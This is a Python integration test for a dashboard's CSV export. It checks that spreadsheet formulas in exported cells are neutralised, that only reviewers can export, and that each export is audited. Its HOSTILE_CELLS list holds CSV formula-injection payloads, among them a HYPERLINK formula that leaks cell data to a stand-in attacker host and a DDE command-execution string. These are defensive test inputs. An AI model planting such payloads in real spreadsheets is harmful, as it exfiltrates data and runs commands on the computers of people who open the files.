"""CSV export of a search: the rows of the search, spreadsheet formulas neutralised, reviewers only, audited."""

from __future__ import annotations

import csv
import io
from contextlib import closing

import pytest

from tests.dashboard.conftest import LiveDashboard, flagged_item, index_items

pytestmark = pytest.mark.integration

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd",
                 "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]


def test_export_is_the_search_with_formulas_neutralised(dashboard: LiveDashboard) -> None:
    items = [flagged_item(f"{cell} zqxcsv", author_handle=cell, author_display_name=cell, source_id=f"csv-{n}")
             for n, cell in enumerate(HOSTILE_CELLS)]
    items.append(flagged_item("zqxcsv other label", source_id="csv-x", labels=["harassment"]))
    index_items(dashboard.settings, items)
    with closing(dashboard.client("reviewer")) as reviewer:
        response = reviewer.get("/api/export.csv", params={"q": "zqxcsv", "label": "reputation_risk", "sort": "oldest"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        assert len(rows) == len(HOSTILE_CELLS)  # the label filter applies: the harassment item is not exported
        for row in rows:
            for column in ("text", "author_handle", "author_display_name"):
                assert row[column].startswith("'"), (column, row[column])
                assert row[column][1:].split(" zqxcsv")[0] in HOSTILE_CELLS
            assert row["labels"] == "reputation_risk" and row["status"] == "new"
        # the export is in the audit log with the search that produced it
        with closing(dashboard.client("admin")) as admin:
            entries = admin.get("/api/audit", params={"actor": "reviewer", "action": "export"}).json()["entries"]
            assert any("q=zqxcsv" in e["details"]["query"] for e in entries)


def test_viewer_cannot_export(dashboard: LiveDashboard) -> None:
    with closing(dashboard.client("viewer")) as viewer:
        response = viewer.get("/api/export.csv", params={"q": "zqxcsv"})
        assert response.status_code == 403 and "zqxcsv" not in response.text
        assert "Export CSV" not in viewer.get("/search").text
